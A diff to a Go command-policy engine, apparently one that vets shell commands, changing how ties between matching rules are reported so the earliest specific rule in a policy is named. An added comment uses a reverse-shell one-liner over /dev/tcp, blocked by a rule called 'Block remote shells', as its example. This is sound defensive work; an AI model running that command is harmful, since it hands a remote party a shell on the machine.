@@ -52,12 +52,19 @@ func (p *Policy) Decide(req *action.Request) action.Decision {
 // worse reports whether part outcome o should replace the current worst:
 // a more restrictive effect, or the same effect decided by a rule where the
 // current one was only the default (so `cd x && python -m http.server`
-// reports the rule that caught the server, not the default that caught cd).
+// reports the rule that caught the server, not the default that caught cd),
+// or by an earlier rule of the same policy than the current one. First match
+// puts the specific rules first, so for `exec 3<>/dev/tcp/h/p; sh <&3 >&3`
+// the report names "Block remote shells" on sh, not the catch-all that
+// denied exec.
 func worse(o, cur outcome) bool {
 	if o.effect.Rank() != cur.effect.Rank() {
 		return o.effect.Rank() > cur.effect.Rank()
 	}
-	return cur.ref == nil && o.ref != nil
+	if cur.ref == nil {
+		return o.ref != nil
+	}
+	return o.rule != nil && cur.rule != nil && o.policy == cur.policy && o.rule.index < cur.rule.index
 }
 
 // tieToCommand breaks a tie between equally decided parts in favour of a
